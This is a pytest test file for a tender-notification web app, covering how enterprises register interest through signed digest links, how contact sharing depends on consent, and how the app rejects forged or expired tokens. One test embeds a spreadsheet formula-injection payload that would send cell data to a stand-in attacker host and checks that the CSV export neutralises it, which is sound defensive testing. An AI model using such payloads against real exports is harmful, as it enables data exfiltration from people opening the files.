"""Enterprises raise their hand: from the digest's signed link, with a note, capacity and "we could
bid together"; the contact reaches the buyer only when shared, and leaves again when taken back.

Organisations, people, addresses and numbers here are invented.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from notifications.senders.outbox import OutboxSender
from notifications.tokens import make_token
from radar.buyers.interest import raise_hand
from radar.buyers.notices import add_buyer, publish, withdraw
from radar.delivery import send_due
from radar.pipeline import match_and_queue
from radar.subscribers import active_subscribers
from radar.web.app import create_app
from radar.web.auth import hash_password
from tenders import clock
from tenders.config import Settings, load_settings
from tenders.store import Store, open_store
from tenders.store.buyers import BuyerStore
from tests.conftest import outbox

from .helpers.dashboard_site import csrf

ORG_BUYER, ORG_ENTERPRISE = "999999-9999", "999999-7779"  # invented
PASSWORDS = {"dala": "dala-buyer-pass-1", "anna": "dalarna-pass-123"}
SOON = (clock.today() + timedelta(days=30)).isoformat()
EMAIL = "hej@dalastad.example.org"


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    (tmp_path / "sources.yaml").write_text("sources: []\n", encoding="utf-8")
    (tmp_path / "subscribers.yaml").write_text(
        "subscribers:\n"
        f"  - {{key: dala-stad, organisation: Dala Städ kooperativ (invented), email: {EMAIL},\n"
        f"     org_number: '{ORG_ENTERPRISE}', regions: [SE312], frequency: instant, min_score: 0.3}}\n",
        encoding="utf-8",
    )
    return load_settings({"TENDER_RADAR_HOME": str(tmp_path), "TENDER_RADAR_SECRET": "interest-secret-" + "z" * 20})


@pytest.fixture
def store(settings: Settings) -> Store:
    store = open_store(settings)
    org = add_buyer(store, "Dala Inköp (invented)", ORG_BUYER, ["Dalarna"]).org
    store.save_coordinator("dala", hash_password(PASSWORDS["dala"]), [])
    BuyerStore(store).add_user("dala", org.org_number)
    store.save_coordinator("anna", hash_password(PASSWORDS["anna"]), ["SE312"])
    store.replace_register([{"org_number": ORG_ENTERPRISE.replace("-", ""), "name": "Dala Städ kooperativ (invented)",
                             "municipality": "Ludvika", "county": "SE312", "sectors": ["cleaning"]}])  # fmt: skip
    return store


@pytest.fixture
def notice_id(store: Store) -> str:
    org = BuyerStore(store).org(ORG_BUYER.replace("-", ""))
    assert org is not None
    body = {"title": "Städning av badhus (reserverad, invented)", "status": "open", "deadline": SOON,
            "cpv_main": "90910000", "reserved_participation": ["res-ws"]}  # fmt: skip
    return publish(store, org, body, "token:test", base_url="http://localhost:8000").tender.id


def digest_link(settings: Settings, store: Store) -> str:
    subscribers = active_subscribers(settings, store)
    match_and_queue(store, subscribers)
    send_due(store, subscribers, OutboxSender(settings.outbox_dir), settings)
    text = outbox(settings.outbox_dir)[EMAIL]
    found = re.search(r"(http://localhost:8000/interest\?\S+)", text)
    assert found, text
    return found.group(1).removeprefix("http://localhost:8000")


def logged_in(settings: Settings, user: str) -> TestClient:
    c = TestClient(create_app(settings))
    page = c.get("/login")
    c.post("/login", data={"username": user, "password": PASSWORDS[user], "csrf": csrf(page.text)})
    return c


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_from_the_digest_link_to_the_buyers_list_with_consent_given_and_taken_back(
    settings: Settings, store: Store, notice_id: str
) -> None:
    link = digest_link(settings, store)
    enterprise = TestClient(create_app(settings))
    form = enterprise.get(link)
    assert form.status_code == 200 and EMAIL in form.text
    assert BuyerStore(store).interest(notice_id) == []  # opening the link changes nothing
    answer = enterprise.post(link, data={"csrf": csrf(form.text), "action": "raise", "note": "Vi har städat badhus",
                                         "capacity": "6 personer", "joint_bid": "1", "share_contact": "1"})  # fmt: skip
    assert answer.status_code == 200, answer.text

    buyer = logged_in(settings, "dala")
    page = buyer.get(f"/buyer/notices/{notice_id}")
    assert "Dala Städ kooperativ" in page.text and EMAIL in page.text and "6 personer" in page.text
    rows = table(buyer.get(f"/buyer/notices/{notice_id}/interest.csv").text)
    assert rows == [{"organisation": "Dala Städ kooperativ (invented)", "org_number": "9999997779",
                     "municipality": "Ludvika", "sectors": "cleaning", "capacity": "6 personer",
                     "could_bid_together": "yes", "note": "Vi har städat badhus", "contact": EMAIL,
                     "since": clock.today().isoformat()}]  # fmt: skip
    assert "1</td>" in buyer.get("/buyer").text  # the count in the list

    coordinator = logged_in(settings, "anna")
    seen = table(coordinator.get(f"/buyer/notices/{notice_id}/interest.csv").text)
    assert seen[0]["organisation"].startswith("Dala Städ") and seen[0]["contact"] == ""  # consent was for the buyer

    form = enterprise.get(link)
    enterprise.post(link, data={"csrf": csrf(form.text), "action": "raise", "note": "Vi har städat badhus"})
    rows = table(buyer.get(f"/buyer/notices/{notice_id}/interest.csv").text)
    assert rows[0]["contact"] == "" and rows[0]["could_bid_together"] == "no"
    assert EMAIL not in buyer.get(f"/buyer/notices/{notice_id}").text

    form = enterprise.get(link)
    enterprise.post(link, data={"csrf": csrf(form.text), "action": "withdraw"})
    assert table(buyer.get(f"/buyer/notices/{notice_id}/interest.csv").text) == []


def test_a_forged_link_another_tender_or_no_csrf_is_refused(settings: Settings, store: Store, notice_id: str) -> None:
    link = digest_link(settings, store)
    c = TestClient(create_app(settings))
    forged = re.sub(r"token=[^&]+", "token=feedback.ZGFsYS1zdGFk.9999999999.forged", link)
    assert c.get(forged).status_code == 400
    elsewhere = link.replace(notice_id, "ted:000000-2026")
    assert c.get(elsewhere).status_code == 400
    form = c.get(link)
    assert c.post(link, data={"csrf": "wrong", "action": "raise"}).status_code == 403
    too_long = c.post(link, data={"csrf": csrf(form.text), "action": "raise", "note": "x" * 2000})
    assert too_long.status_code == 400 and BuyerStore(store).interest(notice_id) == []


def test_the_tender_page_offers_interest_only_with_the_digests_link(
    settings: Settings, store: Store, notice_id: str
) -> None:
    link = digest_link(settings, store)
    c = TestClient(create_app(settings))
    anonymous = c.get(f"/tenders/{notice_id}")
    assert "Använd länken i ert utskick" in anonymous.text and "/interest?" not in anonymous.text
    token = re.search(r"token=([^&]+)", link).group(1)  # type: ignore[union-attr]
    signed = c.get(f"/tenders/{notice_id}?token={token}")
    assert "/interest?" in signed.text and "Vi är intresserade" in signed.text


def test_a_withdrawn_notice_takes_no_more_interest(settings: Settings, store: Store, notice_id: str) -> None:
    link = digest_link(settings, store)
    org = BuyerStore(store).org(ORG_BUYER.replace("-", ""))
    assert org is not None
    withdraw(store, org, notice_id, "token:test")
    answer = TestClient(create_app(settings)).get(link)
    assert answer.status_code == 400 and "köparen har återkallat annonsen" in answer.text


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_no_cell_of_the_interest_csv_runs_as_a_formula_whichever_separator_excel_uses(
    settings: Settings, store: Store, notice_id: str
) -> None:
    note = 'Vi städar; =HYPERLINK("https://evil.example/?x="&A1;"Läs mer")'  # invented; "," splits it in Excel too
    raise_hand(settings, store, "dala-stad", notice_id, note=note, capacity="+46 70 000 00 00", share_contact=True)
    text = logged_in(settings, "dala").get(f"/buyer/notices/{notice_id}/interest.csv").text.lstrip("\ufeff")
    for separator in (",", ";"):  # Excel in a Swedish locale splits at ";"
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
        assert not [cell for cell in cells if cell.lstrip()[:1] in FORMULA_START], separator
    (row,) = table(text)
    assert row["note"] == note.replace("; =", "; '=") and row["capacity"] == "'+46 70 000 00 00"


def test_the_tender_page_address_people_copy_carries_no_long_lived_token(
    settings: Settings, store: Store, notice_id: str
) -> None:
    token = re.search(r"token=([^&]+)", digest_link(settings, store)).group(1)  # type: ignore[union-attr]
    c = TestClient(create_app(settings))
    opened = c.get(f"/tenders/{notice_id}?lang=sv&token={token}", follow_redirects=False)
    assert opened.status_code == 303 and token not in opened.headers["location"]
    page = c.get(opened.headers["location"])  # what the address bar shows, and what gets forwarded
    assert page.status_code == 200 and token not in str(page.url) and token not in page.text
    interest = re.search(r'href="([^"]*/interest\?[^"]+)"', page.text)
    assert interest and token not in interest.group(1)  # the page's own link carries the hour's token
    link = interest.group(1).replace("&amp;", "&")
    form = c.get(link)
    raised = c.post(link, data={"csrf": csrf(form.text), "action": "raise", "note": "Vi kan (invented)"})
    assert raised.status_code == 200
    assert [r.note for r in BuyerStore(store).interest(notice_id)] == ["Vi kan (invented)"]
    # an hour later a forwarded address no longer opens it
    visit = re.search(r"token=(visit\.[^&]+)", link).group(1)  # type: ignore[union-attr]
    old = make_token(settings.secret_key(), "visit", "dala-stad", valid_for=3600, now=clock.time() - 3601)
    assert c.get(link.replace(visit, old)).status_code == 400
    forged = c.get(f"/tenders/{notice_id}?token=feedback.ZGFsYS1zdGFk.9999999999.forged", follow_redirects=False)
    assert forged.status_code == 303 and "token" not in forged.headers["location"]
